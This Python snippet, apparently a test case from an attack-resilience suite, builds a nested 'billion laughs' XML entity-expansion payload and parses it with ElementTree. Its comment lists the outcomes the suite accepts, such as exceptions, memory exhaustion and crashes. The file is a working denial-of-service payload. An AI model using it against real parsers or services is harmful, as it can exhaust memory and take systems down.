"""Expands XML entities by the billion."""
# acceptable: exception, memory, timeout, crash

import xml.etree.ElementTree as ElementTree


def attack():
    names = "abcdefghij"
    entities = '<!ENTITY a "' + "x" * 1000 + '">'
    for before, name in zip(names, names[1:]):
        entities += f'<!ENTITY {name} "{f"&{before};" * 10}">'
    text = f"<!DOCTYPE r [{entities}]><r>&{names[-1]};</r>"
    return len(ElementTree.fromstring(text).text)
